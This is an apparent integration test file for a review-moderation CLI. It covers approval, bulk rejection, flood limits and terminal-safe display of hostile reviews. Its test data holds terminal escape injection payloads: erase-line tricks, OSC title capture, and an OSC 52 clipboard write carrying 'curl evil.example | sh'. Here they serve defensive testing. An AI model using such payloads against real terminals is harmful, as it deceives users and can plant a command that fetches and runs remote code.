// Owner's moderation CLI against the running stack: pending review → approve → visible to anon.
import { execFile } from 'node:child_process'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { clients, insertFrom, newRow, sql, stack } from './helpers.ts'

const run = promisify(execFile)
const BIN_DIR = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'bin')
const env = () => ({ ...process.env, LOCAL_STACK_PORT: new URL(stack().url).port, SUPABASE_URL: '', SUPABASE_SERVICE_ROLE_KEY: '' })
const reviews = (...args: string[]) => run(process.execPath, [path.join(BIN_DIR, 'reviews.mjs'), ...args], { env: env() })
/** The CLI with the owner's answer typed on its input. */
const reviewsAnswering = (answer: string, ...args: string[]) => {
  const running = run(process.execPath, [path.join(BIN_DIR, 'reviews.mjs'), ...args], { env: env() })
  running.child.stdin!.end(answer)
  return running
}
/** The exact bytes a terminal would receive. */
const bytesOf = async (bin: string, ...args: string[]) =>
  (await run(process.execPath, [path.join(BIN_DIR, bin), ...args], { env: env(), encoding: 'buffer', maxBuffer: 64 * 1024 * 1024 })).stdout

/**
 * Bytes a terminal acts on instead of printing: C0 controls but the line feed (ESC starts every
 * escape sequence; BEL and CR end or rewrite lines), DEL, and the C1 controls in UTF-8 (0xC2 0x80–0x9F:
 * CSI and OSC for terminals that honour them).
 */
function controlBytes(out: Buffer): string[] {
  const found: string[] = []
  for (let i = 0; i < out.length; i++) {
    const b = out[i]!
    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) found.push(`0x${b.toString(16)}@${i}`)
    if (b === 0xc2 && out[i + 1]! >= 0x80 && out[i + 1]! <= 0x9f) found.push(`C1 0x${out[i + 1]!.toString(16)}@${i}`)
  }
  return found
}

/** The three hostile payloads of the review of main, as anonymous visitors sent them. */
const PAYLOADS = {
  erase: {
    nom: 'Client mécontent',
    message: 'ARNAQUE : cet expert est un escroc, appelez le 06 00 00 00 00\u001b[2K\u001b[1G\rTrès bon expert, je recommande vivement.',
  },
  title: { nom: 'Client discret', message: `Bon avis\u001b]0;${'la suite est avalée '.repeat(10)}` },
  clipboard: { nom: 'Client pressé\u0007', message: `Merci\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007 pour tout.` },
}

const { anon, service } = clients()

describe('moderation CLI', () => {
  test('pending → list --pending → approve → visible to anon → reject deletes it', async () => {
    const row = newRow({ nom: 'Avis À Modérer', email: 'avis.a.moderer@example.fr', message: 'Expertise impeccable, je recommande vivement.' })
    expect((await anon.from('avis').insert([row])).status).toBe(201)
    expect((await anon.from('avis').select('*').eq('id', row.id)).data).toEqual([])

    // Three reads of the same queue: one CLI process each, at once.
    const [json, table, show] = await Promise.all([
      reviews('list', '--pending', '--json', '--limit', '500'),
      reviews('list', '--pending'),
      reviews('show', row.id),
    ])
    const pending = JSON.parse(json.stdout) as Array<{ id: string }>
    expect(pending.map((r) => r.id)).toContain(row.id)
    expect(table.stdout).toContain('Avis À Modérer')
    const shown = show.stdout
    expect(shown).toContain('Expertise impeccable')
    // The owner sees the e-mail that the public API never returns.
    expect(shown).toContain('avis.a.moderer@example.fr')

    expect((await reviews('approve', row.id)).stdout).toMatch(/Approved/)
    const visible = await anon.from('avis').select('*').eq('id', row.id)
    expect(visible.data).toHaveLength(1)
    expect(visible.data![0]).toMatchObject({ approuve: true, nom: 'Avis À Modérer' })

    expect((await reviews('reject', row.id)).stdout).toMatch(/deleted/)
    expect((await service.from('avis').select('*').eq('id', row.id)).data).toEqual([])
  })

  test('bad input: unknown id, malformed id, unknown command', async () => {
    // Independent refusals: the five processes run at once.
    await Promise.all([
      expect(reviews('approve', '00000000-0000-4000-8000-000000000000')).rejects.toMatchObject({ code: 1, stderr: expect.stringMatching(/No review/) }),
      expect(reviews('approve', 'nope')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('"nope" is not a review id') }),
      expect(reviews('show', 'x\u001b]0;pwned\u0007\u202e')).rejects.toMatchObject({
        code: 2,
        stderr: expect.stringContaining('"x\\u001b]0;pwned\\u0007\\u202e" is not a review id'),
      }),
      expect(reviews('show')).rejects.toMatchObject({ code: 2, stderr: expect.stringMatching(/A review id \(uuid\) is required/) }),
      expect(reviews('frobnicate')).rejects.toMatchObject({ code: 2 }),
    ])
  })
})

describe("hostile text cannot take over the owner's terminal", () => {
  test('erase-line, unterminated OSC title and OSC 52 in reviews: shown as visible tokens, the whole queue still listed', async () => {
    // Since the text migration the table refuses control characters; these rows stand for reviews
    // stored before it (or on a project where it is not applied yet): the CLI must hold on its own.
    const names = ['avis_message_no_control_chars', 'avis_nom_no_control_chars']
    const saved = await sql<{ conname: string; def: string }>(
      "select conname, pg_get_constraintdef(oid) as def from pg_constraint where conrelid = 'public.avis'::regclass and conname = any($1)",
      [names],
    )
    for (const name of names) await sql(`alter table public.avis drop constraint if exists ${name}`)
    const ids: string[] = []
    try {
      // Eight ordinary reviews, then the attacker's (newest, so printed first).
      const ordinary = Array.from({ length: 8 }, (_, i) => newRow({ nom: `Client ordinaire ${i}`, message: `Avis ordinaire numéro ${i}, rien à signaler.` }))
      ids.push(...ordinary.map((r) => r.id))
      for (const answer of await Promise.all(ordinary.map((r) => insertFrom('127.0.0.30', r)))) expect(answer.status).toBe(201)
      const hostile: Record<string, string> = {}
      const attacks = Object.entries(PAYLOADS).map(([key, payload]) => {
        const r = newRow(payload)
        ids.push(r.id)
        hostile[key] = r.id
        return r
      })
      for (const answer of await Promise.all(attacks.map((r) => insertFrom('127.0.0.31', r)))) expect(answer.status).toBe(201)

      // Every read at once: the list, each hostile review shown, the JSON list.
      const [list, json, ...shows] = await Promise.all([
        bytesOf('reviews.mjs', 'list', '--pending', '--limit', '500'),
        bytesOf('reviews.mjs', 'list', '--pending', '--json', '--limit', '500'),
        ...Object.values(hostile).map((id) => bytesOf('reviews.mjs', 'show', id)),
      ])
      expect(controlBytes(list)).toEqual([])
      const text = list.toString('utf8')
      for (const id of ids) expect(text).toContain(id)
      expect(text).toContain('ARNAQUE : cet expert est un escroc')
      expect(text).toContain('06 00 00 00 00\\x1b[2K\\x1b[1G\\rTrès bon expert')
      expect(text).toContain('Bon avis\\x1b]0;la suite est avalée')
      expect(text).toContain('Merci\\x1b]52;c;')
      expect(text).toContain('Client pressé\\x07')

      for (const shown of shows) expect(controlBytes(shown)).toEqual([])
      expect(shows[Object.keys(hostile).indexOf('erase')]!.toString()).toContain('\\x1b[2K')

      expect(controlBytes(json)).toEqual([])
      const parsed = JSON.parse(json.toString()) as Array<{ id: string; message: string }>
      expect(parsed.find((r) => r.id === hostile.clipboard)?.message).toBe(PAYLOADS.clipboard.message)
    } finally {
      await sql('delete from public.avis where id = any($1::uuid[])', [ids])
      for (const { conname, def } of saved) await sql(`alter table public.avis add constraint ${conname} ${def}`)
    }
  })

  test('invisible characters (zero-width, and a bidi override stored before the table refused them) are shown too', async () => {
    const [saved] = await sql<{ def: string }>(
      "select pg_get_constraintdef(oid) as def from pg_constraint where conrelid = 'public.avis'::regclass and conname = 'avis_message_no_bidi_controls'",
    )
    await sql('alter table public.avis drop constraint avis_message_no_bidi_controls')
    const r = newRow({ nom: 'Jean\u200bne', message: 'Très bien\u202e tout est parfait, merci.' })
    try {
      expect((await insertFrom('127.0.0.32', r)).status).toBe(201)
      const out = (await bytesOf('reviews.mjs', 'show', r.id)).toString('utf8')
      expect(out).toContain('Jean<U+200B>ne')
      expect(out).toContain('Très bien<U+202E> tout est parfait')
      expect(out).not.toMatch(/[\u200b\u202e]/)
    } finally {
      await sql('delete from public.avis where id = $1', [r.id])
      await sql(`alter table public.avis add constraint avis_message_no_bidi_controls ${saved!.def}`)
    }
  })

  test('the outbox CLI: an erased and replaced phone number shows as written', async () => {
    const e = stack().emailjs
    await fetch(`${stack().url}/__outbox`, { method: 'DELETE' })
    const sent = await fetch(`${stack().url}/api/v1.0/email/send`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({
        user_id: e.publicKey,
        service_id: e.serviceId,
        template_id: e.templateId,
        template_params: { name: 'Jeanne', phone: '06 12 34 56 78\u001b[2K\u001b[1G\r07 00 00 00 00', message: 'Ligne 1\nLigne 2\u001b]0;titre' },
      }),
    })
    expect(sent.status).toBe(200)
    const variants = [[], ['--last', '1'], ['--json']]
    const outs = await Promise.all(variants.map((args) => bytesOf('outbox.mjs', ...args)))
    for (const [i, args] of variants.entries()) {
      expect(controlBytes(outs[i]!)).toEqual([])
      if (!args.includes('--json')) expect(outs[i]!.toString()).toContain('06 12 34 56 78\\x1b[2K\\x1b[1G\\r07 00 00 00 00')
    }
    await fetch(`${stack().url}/__outbox`, { method: 'DELETE' })
  })
})

describe('spam brake in the moderation CLI', () => {
  test('status shows the pending count and the client addresses at their limit (as salted hashes)', async () => {
    await sql("update avis_private.settings set max_pending_per_client = 3, max_pending_total = 500, duplicate_window = interval '10 minutes'")
    const ids: string[] = []
    try {
      for (let i = 0; i < 3; i++) {
        const r = newRow({ message: `Avis d’un client pressé, numéro ${i}.` })
        ids.push(r.id)
        expect((await insertFrom('127.0.0.40', r)).status).toBe(201)
      }
      expect((await insertFrom('127.0.0.40', newRow())).status).toBe(429)
      const [{ client_hash }] = (await sql<{ client_hash: string }>('select client_hash from avis_private.review_clients where avis_id = $1', [ids[0]])) as [
        { client_hash: string },
      ]
      const [{ pending }] = (await sql<{ pending: number }>('select count(*)::int as pending from public.avis where not approuve')) as [{ pending: number }]
      const [status, list] = await Promise.all([reviews('status'), reviews('list', '--pending', '--limit', '1')])
      const out = status.stdout
      expect(out).toContain(`Pending reviews: ${pending} `)
      expect(out).toMatch(new RegExp(`${client_hash.slice(0, 12)}\\s+3 pending`))
      expect(out).not.toContain('127.0.0.40')
      const listed = list.stdout
      expect(listed).toContain(`1 shown of ${pending} pending review(s).`)
    } finally {
      await sql("update avis_private.settings set max_pending_per_client = 0, max_pending_total = 0, duplicate_window = interval '0'")
      await sql('delete from public.avis where id = any($1::uuid[])', [ids])
    }
  })
})

describe('bulk moderation in the CLI', () => {
  const ids: string[] = []
  const insert = async (address: string, overrides: Record<string, unknown> = {}) => {
    const r = newRow({ message: `Avis de masse numéro ${ids.length + 1}, assez long.`, ...overrides })
    ids.push(r.id)
    expect((await insertFrom(address, r)).status).toBe(201)
    return r.id
  }
  const fingerprints = async (id: string) =>
    (
      await sql<{ client: string; network: string }>(
        'select left(client_hash, 12) as client, left(network_hash, 12) as network from avis_private.review_clients where avis_id = $1',
        [id],
      )
    )[0]!
  const remaining = async (list: string[]) =>
    (await sql<{ id: string }>('select id::text from public.avis where id = any($1::uuid[])', [list])).map((r) => r.id).sort()

  beforeAll(async () => {
    await sql(
      "update avis_private.settings set max_pending_per_client = 3, max_pending_per_network = 10, max_pending_total = 0, duplicate_window = interval '10 minutes'",
    )
  })
  afterAll(async () => {
    await sql(
      "update avis_private.settings set max_pending_per_client = 0, max_pending_per_network = 0, max_pending_total = 0, duplicate_window = interval '0'",
    )
    await sql('delete from public.avis where id = any($1::uuid[])', [ids])
  })

  test('by client fingerprint: list shows its pending reviews; reject previews them, keeps everything unless told "yes", then deletes exactly those', async () => {
    const a = [await insert('127.80.0.1'), await insert('127.80.0.1'), await insert('127.80.0.1')]
    const b = [await insert('127.80.0.2'), await insert('127.80.0.2')]
    const c = [await insert('127.81.0.1')]
    const { client } = await fingerprints(a[0]!)

    const listed = (await reviews('list', '--client', client)).stdout
    for (const id of a) expect(listed).toContain(id)
    for (const id of [...b, ...c]) expect(listed).not.toContain(id)
    expect(listed).toContain(`3 pending review(s): client ${client}`)

    await expect(reviewsAnswering('no\n', 'reject', '--client', client)).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining('Nothing deleted.') })
    expect(await remaining(a)).toEqual([...a].sort())

    const done = await reviewsAnswering('yes\n', 'reject', '--client', client)
    expect(done.stdout).toContain('3 pending review(s) match (client')
    expect(done.stdout).toContain('from 1 client(s) in 1 network(s)')
    expect(done.stdout).toContain('Rejected: 3 review(s) deleted.')
    expect(await remaining([...a, ...b, ...c])).toEqual([...b, ...c].sort())
  })

  test('by network fingerprint and by time span, with --yes; approved reviews are never touched', async () => {
    const b = [await insert('127.82.0.1'), await insert('127.82.0.2'), await insert('127.82.0.3')]
    const other = await insert('127.83.0.1')
    await sql('update public.avis set approuve = true where id = $1', [b[2]])
    const { network } = await fingerprints(b[0]!)
    const old = [await insert('127.84.0.1'), await insert('127.84.0.2')]
    const later = await insert('127.84.0.3')
    await sql("update public.avis set date_creation = '2030-01-01T10:00:00Z' where id = any($1::uuid[])", [old])
    await sql("update public.avis set date_creation = '2030-01-01T12:00:00Z' where id = $1", [later])

    // Two selections that share no review (another network; a span long after now): both at once.
    const [byNetwork, bySpan] = await Promise.all([
      reviews('reject', '--network', network, '--yes'),
      reviews('reject', '--since', '2030-01-01T09:00:00Z', '--until', '2030-01-01T11:00:00Z', '--yes'),
    ])
    expect(byNetwork.stdout).toContain('Rejected: 2 review(s) deleted.')
    expect(await remaining([...b, other])).toEqual([b[2]!, other].sort())
    expect(bySpan.stdout).toContain('Rejected: 2 review(s) deleted.')
    expect(await remaining([...old, later])).toEqual([later])
  })

  test('bad selections are refused before anything is read or deleted', async () => {
    await Promise.all([
      expect(reviews('reject', '--client', 'zz')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('is not a fingerprint') }),
      expect(reviews('reject', '--since', 'hier')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('is not a time') }),
      expect(reviews('reject', '--client')).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining('--client needs a value') }),
    ])
  })

  test('status says when a flood is under way, until when new reviews are refused, and how to reject it', async () => {
    const [{ n }] = (await sql<{ n: number }>(
      "select count(*)::int as n from public.avis where not approuve and date_creation > now() - interval '10 minutes'",
    )) as [{ n: number }]
    await sql("update avis_private.settings set max_pending_total = $1, total_window = interval '10 minutes'", [n + 2])
    try {
      expect((await reviews('status')).stdout).not.toContain('FLOOD UNDER WAY')
      await insert('127.85.0.1')
      await insert('127.86.0.1')
      expect((await insertFrom('127.87.0.1', newRow())).status).toBe(429)
      const out = (await reviews('status')).stdout
      expect(out).toMatch(/FLOOD UNDER WAY: \d+ pending reviews received in the last 10 min from \d+ client\(s\) in \d+ network\(s\)/)
      expect(out).toMatch(/every new review is refused until about /)
      expect(out).toMatch(/npm run reviews -- reject --since \d{4}-\d\d-\d\dT/)
    } finally {
      await sql('update avis_private.settings set max_pending_total = 0')
    }
  })
})
